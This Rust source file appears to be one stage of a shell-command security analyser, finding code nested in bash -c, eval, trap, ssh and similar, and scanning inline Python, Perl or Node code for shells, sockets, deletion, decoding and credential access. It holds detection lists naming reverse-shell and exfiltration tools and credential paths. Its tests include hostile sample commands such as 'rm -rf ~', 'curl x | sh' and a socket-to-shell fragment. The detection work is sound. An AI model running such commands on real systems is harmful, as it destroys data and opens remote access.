//! Stage 7, nested: which strings run as code?
//!
//! Input: one unit. Output: [`Nested`] code strings for the pipeline to analyse as scripts of their
//! own (`bash -c STR`, `sh <<EOF`, `bash <<< STR`, `eval ARGS`, `alias x=STR`, `trap STR`,
//! `su -c STR`, `script -c STR`), and findings for code we cannot analyse as bash: inline code of
//! other interpreters (`python -c`, `perl -e`, `node -e` ...) is scanned for shell-outs, sockets,
//! deletion and decoding. Invariant: a code string whose text is not static is HIGH.

use crate::cx::Findings;
use crate::unit::{RedirOp, Unit, Value};
use crate::verdict::{Risk, Stage};
use rustc_hash::FxHashMap;
use std::sync::OnceLock;

/// A string that bash (or `sh`) will run.
#[derive(Debug, Clone)]
pub(crate) struct Nested {
    pub(crate) text: String,
    pub(crate) how: &'static str,
}

pub(crate) const SHELLS: &[&str] = &["bash", "sh", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "yash", "posh", "fish", "rbash", "tcsh", "csh", "elvish", "nu", "xonsh", "pwsh", "powershell"];

pub(crate) const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("pypy", &["-c"]),
    ("pypy3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval", "-p", "--print"]),
    ("bun", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("luajit", &["-e"]),
    ("Rscript", &["-e"]),
    ("osascript", &["-e"]),
    ("tclsh", &[]),
    ("wish", &[]),
    ("jshell", &[]),
    ("irb", &[]),
    ("gawk", &[]),
];

/// The inline-code flags of interpreter `base` (`python3.12` and `python3` find `python3`):
/// the first entry of [`INTERPRETERS`] named `base` or `base` without its version.
pub(crate) fn interpreter_base(base: &str) -> Option<&'static [&'static str]> {
    static BY_NAME: OnceLock<FxHashMap<&'static str, usize>> = OnceLock::new();
    let by_name = BY_NAME.get_or_init(|| {
        let mut m = FxHashMap::default();
        for (i, (n, _)) in INTERPRETERS.iter().enumerate() {
            m.entry(*n).or_insert(i);
        }
        m
    });
    let b = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let first = match (by_name.get(base), by_name.get(b)) {
        (Some(x), Some(y)) => Some(*x.min(y)),
        (x, y) => x.or(y).copied(),
    };
    first.and_then(|i| INTERPRETERS.get(i)).map(|(_, f)| *f)
}

pub(crate) fn run(u: &Unit, idx: usize, out: &mut Findings) -> Vec<Nested> {
    let Some(base) = u.base() else { return Vec::new() };
    let mut found = Vec::new();
    if SHELLS.contains(&base) {
        shell(u, idx, 0, out, &mut found);
    } else {
        match base {
            "eval" => code_args(u, idx, 1, "eval", out, &mut found),
            "alias" => {
                for v in u.argv.iter().skip(1) {
                    if let Some((_, value)) = v.text.split_once('=') {
                        push_code(value, v.dynamic, "alias", idx, out, &mut found);
                    }
                }
            }
            "trap" => {
                let code = u.argv.iter().skip(1).find(|v| v.text != "--" && !matches!(v.text.as_str(), "-p" | "-l" | "-P"));
                if let Some(v) = code.filter(|v| !v.text.starts_with('-') || v.text.len() > 2) {
                    push_code(&v.text, v.dynamic, "trap", idx, out, &mut found);
                }
            }
            "su" | "runuser" | "script" | "flock" | "sg" | "newgrp" => dash_c(u, idx, base, out, &mut found),
            "ssh" => remote(u, idx, out, &mut found),
            "echo" | "printf" => written_script(u, idx, out, &mut found),
            "tmux" | "screen" => terminal_mux(u, idx, out, &mut found),
            "git" => git_runs(u, idx, out, &mut found),
            "mapfile" | "readarray" => mapfile_callback(u, idx, base, out, &mut found),
            "source" | "." if u.argv.get(1).is_some_and(|v| matches!(v.text.as_str(), "/dev/stdin" | "-" | "/proc/self/fd/0")) => {
                if let ShellRun::Stdin { heredoc: Some(h), .. } = shell_run(u, 1) {
                    push_code(&h.text, h.dynamic, "source /dev/stdin", idx, out, &mut found);
                }
            }
            "source" | "." if u.argv.get(1).is_some_and(|v| v.dynamic) => {
                out.add(Stage::Nested, "nested.source_dynamic", Risk::High, Some(idx), "sources a file whose name (or content, from a substitution) is only known at run time");
            }
            _ => {}
        }
    }
    if let Some(flags) = interpreter_base(base) {
        inline(u, idx, flags, out);
    }
    // `./cat -c "rm -rf ~"`: a program run by path with `-c STRING` may well be a shell in disguise.
    if u.name().is_some_and(|n| n.contains('/')) && !SHELLS.contains(&base) {
        if let Some(pos) = u.argv.iter().position(|a| a.text == "-c") {
            if let Some(code) = u.argv.get(pos + 1) {
                push_code(&code.text, code.dynamic, "-c string of a program run by path", idx, out, &mut found);
            }
        }
    }
    for n in &found {
        out.note(Stage::Nested, || format!("{}: `{}`", n.how, super::s06_substitutions::short(&n.text)));
    }
    found
}

/// How a shell invocation gets its code.
pub(crate) enum ShellRun<'u> {
    /// `sh -c STRING`
    Code(&'u Value),
    /// `sh FILE`
    Script(&'u Value),
    /// Code from stdin: a heredoc / here-string, a `< file` redirection, or a pipe / terminal.
    Stdin { heredoc: Option<&'u Value>, file: Option<&'u Value> },
}

/// Reads a shell's options (`-c`, `-s`, `-o opt`, `--rcfile f`, bundles like `-lc`) from `from`.
pub(crate) fn shell_run(u: &Unit, from: usize) -> ShellRun<'_> {
    let mut dash_c = false;
    let mut stdin_flag = false;
    let mut i = from + 1;
    while let Some(v) = u.argv.get(i) {
        let a = v.text.as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if a.starts_with("--") {
            if matches!(a, "--rcfile" | "--init-file") {
                i += 1;
            }
        } else if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
            dash_c |= a[1..].contains('c');
            stdin_flag |= a[1..].contains('s');
            if a[1..].ends_with('o') || a[1..].ends_with('O') {
                i += 1;
            }
        } else {
            break;
        }
        i += 1;
    }
    if dash_c {
        if let Some(v) = u.argv.get(i) {
            return ShellRun::Code(v);
        }
    }
    match u.argv.get(i) {
        Some(v) if !stdin_flag && !matches!(v.text.as_str(), "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0") => ShellRun::Script(v),
        _ => ShellRun::Stdin {
            heredoc: u.redirects.iter().rev().find(|r| r.op == RedirOp::Stdin).map(|r| &r.target),
            file: u.redirects.iter().rev().find(|r| r.op == RedirOp::Read && r.fd.unwrap_or(0) == 0).map(|r| &r.target),
        },
    }
}

fn shell(u: &Unit, idx: usize, from: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    match shell_run(u, from) {
        ShellRun::Code(v) => push_code(&v.text, v.dynamic, "sh -c", idx, out, found),
        ShellRun::Stdin { heredoc: Some(h), .. } => push_code(&h.text, h.dynamic, "heredoc into a shell", idx, out, found),
        ShellRun::Script(_) | ShellRun::Stdin { .. } => {} // stage 12 records scripts; stage 13 judges pipes
    }
}

/// `su -c STRING`, `script -c STRING`, `flock FILE -c STRING`, `sg GROUP -c STRING`.
fn dash_c(u: &Unit, idx: usize, base: &str, out: &mut Findings, found: &mut Vec<Nested>) {
    let mut it = u.argv.iter().skip(1);
    while let Some(v) = it.next() {
        let a = v.text.as_str();
        if a == "-c" || a == "--command" || (a.starts_with("-") && !a.starts_with("--") && a.ends_with('c') && base == "su") {
            if let Some(code) = it.next() {
                push_code(&code.text, code.dynamic, "-c string", idx, out, found);
            }
            return;
        }
        if let Some(code) = a.strip_prefix("--command=") {
            push_code(code, v.dynamic, "-c string", idx, out, found);
            return;
        }
    }
}

/// `ssh [opts] HOST COMMAND...`: the remote command is analysed like local code (its risk to the
/// remote machine is the same kind of risk).
fn remote(u: &Unit, idx: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    const VALUED: &[&str] = &["-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-B"];
    let mut i = 1;
    while let Some(v) = u.argv.get(i) {
        let a = v.text.as_str();
        if a.starts_with('-') && a.len() > 1 {
            i += if VALUED.contains(&a) { 2 } else { 1 };
            continue;
        }
        break;
    }
    if u.argv.len() > i + 1 {
        code_args(u, idx, i + 1, "ssh remote command", out, found);
    }
}

/// `echo 'curl x | sh' >> scripts/test.sh`: text written into a shell script runs later.
fn written_script(u: &Unit, idx: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    let script_like = |p: &str| {
        let name = crate::unit::basename(p);
        [".sh", ".bash", ".zsh", ".ksh"].iter().any(|e| name.ends_with(e))
            || matches!(name, ".bashrc" | ".bash_profile" | ".bash_login" | ".profile" | ".zshrc" | ".zshenv" | ".zprofile" | ".envrc" | "pre-commit" | "pre-push" | "post-checkout" | "post-merge" | "commit-msg" | "prepare-commit-msg" | "post-commit")
            || p.contains(".husky/")
            || p.contains(".git/hooks/")
    };
    let autorun = |p: &str| {
        let name = crate::unit::basename(p);
        matches!(name, "Makefile" | "makefile" | "GNUmakefile" | "package.json" | "Cargo.toml" | "build.rs" | "setup.py" | "setup.cfg" | "pyproject.toml" | "conftest.py" | ".npmrc" | "justfile" | "Justfile" | "Taskfile.yml" | "Rakefile" | "Gemfile" | "build.gradle" | "pom.xml" | "Dockerfile" | "docker-compose.yml" | "compose.yaml" | "tox.ini" | "noxfile.py" | ".pre-commit-config.yaml")
            || name.ends_with(".mk")
            || p.contains(".github/workflows/")
    };
    if u.redirects.iter().any(|r| matches!(r.op, RedirOp::Write | RedirOp::Append) && autorun(&r.target.text)) {
        let text: String = u.argv.iter().skip(1).map(|v| v.text.as_str()).collect::<Vec<_>>().join(" ");
        let payload = ["/tmp/", "/dev/shm", "curl ", "wget ", "| sh", "|sh", "| bash", "|bash", "base64", "nc ", "/dev/tcp"].iter().any(|p| text.contains(p));
        if payload {
            out.add(Stage::Nested, "persistence.autorun_payload", Risk::High, Some(idx), "writes a download, a shell or a temporary file into a file that builds run automatically");
        }
    }
    if !u.redirects.iter().any(|r| matches!(r.op, RedirOp::Write | RedirOp::Append) && script_like(&r.target.text)) {
        return;
    }
    let from = if u.base() == Some("echo") { u.argv.iter().skip(1).take_while(|a| matches!(a.text.as_str(), "-n" | "-e" | "-E" | "-ne" | "-en")).count() + 1 } else { 1 };
    let args: Vec<_> = u.argv.iter().skip(from).collect();
    let text = args.iter().map(|v| v.text.replace("\\n", "\n")).collect::<Vec<_>>().join(" ");
    push_code(&text, args.iter().any(|v| v.dynamic), "written into a script", idx, out, found);
}

/// `mapfile -C CODE -c N < FILE`: bash evaluates CODE (with the index and line appended) every N
/// lines. Options are getopts-style: `-tC CODE`, `-CCODE`.
fn mapfile_callback(u: &Unit, idx: usize, base: &str, out: &mut Findings, found: &mut Vec<Nested>) {
    const VALUED: &str = "dnOsuc";
    let mut i = 1;
    while let Some(v) = u.argv.get(i) {
        let a = v.text.as_str();
        if a == "--" || !a.starts_with('-') || a.len() < 2 {
            return;
        }
        for (j, c) in a.char_indices().skip(1) {
            if c == 'C' || VALUED.contains(c) {
                let attached = &a[j + c.len_utf8()..];
                let value = if attached.is_empty() {
                    i += 1;
                    u.argv.get(i).map(|n| (n.text.as_str(), n.dynamic))
                } else {
                    Some((attached, v.dynamic))
                };
                if c == 'C' {
                    if let Some((code, dynamic)) = value {
                        let how = if base == "mapfile" { "mapfile -C callback" } else { "readarray -C callback" };
                        push_code(code, dynamic, how, idx, out, found);
                    }
                }
                break;
            }
        }
        i += 1;
    }
}

/// `tmux new -d 'CMD'`, `tmux send-keys 'CMD' Enter`, `screen -dm CMD`: a command for a new shell.
fn terminal_mux(u: &Unit, idx: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    const RUNS: &[&str] = &["new-session", "new", "new-window", "neww", "split-window", "splitw", "respawn-pane", "respawnp", "respawn-window", "respawnw", "run-shell", "run", "send-keys", "send", "-dm", "-dmS", "-d", "-m"];
    const VALUED: &[&str] = &["-s", "-n", "-t", "-c", "-x", "-y", "-e", "-F", "-l", "-S", "-L", "-f", "-T", "-p"];
    let Some(start) = u.argv.iter().position(|a| RUNS.contains(&a.text.as_str())) else { return };
    let mut i = start + 1 + usize::from(u.argv[start].text.ends_with('S'));
    let mut words = Vec::new();
    while let Some(v) = u.argv.get(i) {
        let a = v.text.as_str();
        if a.starts_with('-') && a.len() > 1 && words.is_empty() {
            i += if VALUED.contains(&a) { 2 } else { 1 };
            continue;
        }
        if !matches!(a, "Enter" | "C-m" | "KPEnter") {
            words.push(v);
        }
        i += 1;
    }
    if words.is_empty() {
        return;
    }
    let dynamic = words.iter().any(|v| v.dynamic);
    let text = words.iter().map(|v| v.text.as_str()).collect::<Vec<_>>().join(" ");
    push_code(&text, dynamic, "terminal multiplexer command", idx, out, found);
}

/// `git submodule foreach CMD`, `git bisect run CMD...`: commands git runs through a shell.
fn git_runs(u: &Unit, idx: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    let words: Vec<&str> = u.argv.iter().map(|v| v.text.as_str()).collect();
    let at = |a: &str, b: &str| words.windows(2).position(|w| w[0] == a && w[1] == b);
    let from = at("submodule", "foreach").map(|p| p + 2).or_else(|| at("bisect", "run").map(|p| p + 2));
    if let Some(mut from) = from {
        while u.argv.get(from).is_some_and(|v| v.text.starts_with('-')) {
            from += 1;
        }
        code_args(u, idx, from, "git runs a command", out, found);
    }
}

fn code_args(u: &Unit, idx: usize, from: usize, how: &'static str, out: &mut Findings, found: &mut Vec<Nested>) {
    let args: Vec<_> = u.argv.iter().skip(from).collect();
    if args.is_empty() {
        return;
    }
    let dynamic = args.iter().any(|v| v.dynamic);
    let text = args.iter().map(|v| v.text.as_str()).collect::<Vec<_>>().join(" ");
    push_code(&text, dynamic, how, idx, out, found);
}

fn push_code(text: &str, dynamic: bool, how: &'static str, idx: usize, out: &mut Findings, found: &mut Vec<Nested>) {
    if dynamic {
        out.add(Stage::Nested, "nested.dynamic_code", Risk::High, Some(idx), format!("{how} runs code that is only known at run time: `{}`", super::s06_substitutions::short(text)));
    }
    found.push(Nested { text: text.to_string(), how });
}

/// Inline code of interpreters other than bash: not parsed, but scanned.
fn inline(u: &Unit, idx: usize, flags: &[&str], out: &mut Findings) {
    let mut code: Option<&crate::unit::Value> = None;
    let mut it = u.argv.iter().skip(1);
    while let Some(v) = it.next() {
        let a = v.text.as_str();
        if flags.contains(&a) {
            code = it.next();
            break;
        }
        if let Some(f) = flags.iter().find(|f| f.len() == 2 && a.starts_with(**f) && a.len() > 2 && !a.starts_with("--")) {
            // `-cCODE` attached, or a bundle like `perl -ne CODE` / `-pe`.
            let _ = f;
            code = Some(v);
            break;
        }
        if a.starts_with('-') && a.len() > 2 && !a.starts_with("--") && flags.iter().any(|f| f.len() == 2 && a.ends_with(&f[1..])) {
            code = it.next();
            break;
        }
        if !a.starts_with('-') {
            break;
        }
    }
    let stdin_code = u.redirects.iter().find(|r| r.op == RedirOp::Stdin).map(|r| &r.target);
    for v in code.into_iter().chain(stdin_code) {
        // Modules loaded on the command line (`perl -MLWP::Simple`, `ruby -ropen-uri`).
        let net_module = u.argv.iter().any(|a| (a.text.starts_with("-M") || a.text.starts_with("-r")) && ["LWP", "IO", "Socket", "socket", "open-uri", "net/http", "HTTP"].iter().any(|m| a.text.contains(m)));
        scan_code(&v.text, v.dynamic, idx, out, u.base().unwrap_or(""), net_module);
    }
}

const SHELL_OUT: &[&str] = &[
    "from os import", "import system", "system as", "getattr(os", "os.posix_spawn", "ctypes", "import pty",
    "os.system", "os.popen", "subprocess", "pty.spawn", "os.exec", "os.spawn", "commands.getoutput", "child_process",
    "execSync", "spawnSync", "exec(\"/bin", "exec('/bin", "exec \"/bin", "exec '/bin", "system(", "system \"", "system '", "shell_exec", "passthru", "proc_open",
    "popen(", "IO.popen", "Open3", "%x(", "%x{", "qx(", "qx{", "Runtime.getRuntime", "io.popen", "os.execute", "Kernel.exec", "/bin/sh", "/bin/bash",
];
const NETWORK: &[&str] = &[
    "socket", "urllib", "requests.", "http.client", "httplib", "fetch(", "net.connect", "net.Socket", "IO::Socket", "TCPSocket", "fsockopen", "curl_",
    "LWP::", "Net::", "http.get", "https.get", "XMLHttpRequest", "websocket", "smtplib", "ftplib", "paramiko",
];
const DELETE: &[&str] = &["shutil.rmtree", "os.remove", "os.unlink", "os.rmdir", "unlink(", "unlink ", "rmtree", "truncate(", "os.truncate", "rmdir(", "fs.rm", "rmSync", "File.delete", "FileUtils.rm", "rimraf", "rmtree"];
const DECODE: &[&str] = &["b64decode", "base64", "decode('hex')", "fromhex", "codecs.decode", "rot13", "atob(", "Buffer.from(", "unpack(", "pack(", "chr(", "String.fromCharCode", "marshal.loads", "zlib.decompress", "pickle.loads"];
const DYN_EXEC: &[&str] = &["exec(", "eval(", "__import__", "new Function(", "instance_eval", "class_eval"];

fn scan_code(code: &str, dynamic: bool, idx: usize, out: &mut Findings, base: &str, net_module: bool) {
    let has = |set: &[&str]| set.iter().any(|p| code.contains(p));
    // Backticks run a shell in Perl, Ruby and PHP (in JavaScript they are template strings).
    let backtick = matches!(base, "perl" | "ruby" | "php") && code.contains('`');
    if dynamic {
        out.add(Stage::Nested, "nested.dynamic_code", Risk::High, Some(idx), "inline code that is only known at run time");
    }
    let perlish = matches!(base, "perl" | "ruby");
    let shell = has(SHELL_OUT) || backtick || perlish && (code.contains("system") || code.contains("exec ") || code.contains("fdopen"));
    let net = has(NETWORK) || net_module || code.contains("http://") || code.contains("https://");
    if net && (shell || code.contains("dup2") || code.contains("pty")) {
        out.add(Stage::Nested, "reverse_shell.inline", Risk::High, Some(idx), "inline code joins a network socket to a shell or process");
    } else if shell {
        out.add(Stage::Nested, "nested.inline_shell", Risk::High, Some(idx), "inline code starts a shell or another program (not visible to analysis)");
    }
    if has(DECODE) && has(DYN_EXEC) {
        out.add(Stage::Nested, "obfuscation.inline_decode_exec", Risk::High, Some(idx), "inline code decodes data and executes it");
    } else if has(DYN_EXEC) {
        out.add(Stage::Nested, "nested.inline_dynamic", Risk::High, Some(idx), "inline code evaluates dynamically built code");
    }
    if has(DELETE) {
        out.add(Stage::Nested, "nested.inline_delete", Risk::High, Some(idx), "inline code deletes files (targets not analysed)");
    }
    if net && ["environ", "process.env", "ENV[", "%ENV", "getenv", "ENV.to_h"].iter().any(|e| code.contains(e)) {
        out.add(Stage::Nested, "exfil.inline_env", Risk::High, Some(idx), "inline code sends the environment over the network");
    }
    if net && (code.contains("eval ") || code.contains("eval(") || code.contains("exec(") || code.contains("load(")) {
        out.add(Stage::Nested, "remote.inline_eval", Risk::High, Some(idx), "inline code runs code it downloads");
    }
    if net && !shell {
        out.add(Stage::Nested, "nested.inline_network", Risk::Medium, Some(idx), "inline code reaches the network");
    }
    let secret_words = [".ssh/", ".aws/", "id_rsa", "id_ed25519", "/etc/shadow", ".netrc", "credentials", ".kube/config", ".docker/config"];
    if secret_words.iter().any(|s| code.contains(s)) {
        out.add(Stage::Nested, "secrets.inline", Risk::High, Some(idx), "inline code touches credential files");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::unit::{Origin, Redir, Value};

    fn unit(argv: &[&str]) -> Unit {
        let mut u = Unit::new(argv.join(" "), Origin::TopLevel, 0);
        u.argv = argv.iter().map(|a| Value::lit(a)).collect();
        u
    }

    #[test]
    fn table() {
        let cases: &[(&[&str], &[&str], &[&str])] = &[
            (&["bash", "-c", "rm -rf ~"], &["rm -rf ~"], &[]),
            (&["sh", "-lc", "ls"], &["ls"], &[]),
            (&["bash", "-x", "-c", "id", "zero"], &["id"], &[]),
            (&["bash", "script.sh"], &[], &[]),
            (&["eval", "echo", "hi"], &["echo hi"], &[]),
            (&["alias", "ls=rm -rf ~"], &["rm -rf ~"], &[]),
            (&["trap", "curl x | sh", "EXIT"], &["curl x | sh"], &[]),
            (&["su", "-c", "id", "root"], &["id"], &[]),
            (&["mapfile", "-C", "rm -rf ~", "-c", "1"], &["rm -rf ~"], &[]),
            (&["readarray", "-tCcurl x|sh", "arr"], &["curl x|sh"], &[]),
            (&["mapfile", "-t", "-n", "5", "arr"], &[], &[]),
            (&["python3", "-c", "import os; os.system('sh')"], &[], &["nested.inline_shell"]),
            (&["python3", "-c", "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)"], &[], &["reverse_shell.inline"]),
            (&["perl", "-e", "print 1"], &[], &[]),
            (&["node", "-e", "require('child_process').execSync('id')"], &[], &["nested.inline_shell"]),
            (&["python", "-c", "print(1)"], &[], &[]),
        ];
        for (argv, code, ids) in cases {
            let mut f = Findings::default();
            let got: Vec<String> = run(&unit(argv), 0, &mut f).into_iter().map(|n| n.text).collect();
            assert_eq!(got, code.iter().map(|s| s.to_string()).collect::<Vec<_>>(), "{argv:?}");
            let fids: Vec<_> = f.list.iter().map(|x| x.id).collect();
            for id in *ids {
                assert!(fids.contains(id), "{argv:?}: {fids:?}");
            }
            if ids.is_empty() {
                assert!(fids.is_empty(), "{argv:?}: {fids:?}");
            }
        }
    }

    #[test]
    fn heredoc_into_shell() {
        let mut u = unit(&["bash"]);
        u.redirects.push(Redir { fd: None, op: RedirOp::Stdin, target: Value::lit("rm -rf ~\n") });
        let mut f = Findings::default();
        assert_eq!(run(&u, 0, &mut f)[0].text, "rm -rf ~\n");
        let mut d = unit(&["eval"]);
        d.argv.push(Value { text: "${x}".into(), dynamic: true, ..Value::default() });
        run(&d, 0, &mut f);
        assert!(f.list.iter().any(|x| x.id == "nested.dynamic_code"));
    }
}
